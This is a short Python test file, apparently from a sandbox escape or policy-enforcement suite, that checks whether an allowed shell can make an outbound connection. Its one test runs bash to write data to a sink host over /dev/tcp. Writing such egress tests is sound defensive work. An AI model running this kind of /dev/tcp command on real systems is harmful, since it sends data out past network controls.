# class: network
# rule: outbound_connectivity
# policy: child-allowed.yaml
# success: an allowed shell connects by its /dev/tcp
# proof: sink
import subprocess

from attack import SINK, attempt


@attempt
def connect():
    return subprocess.run(["/bin/bash", "-c", "echo taken >/dev/tcp/%s/%d" % SINK]).returncode == 0
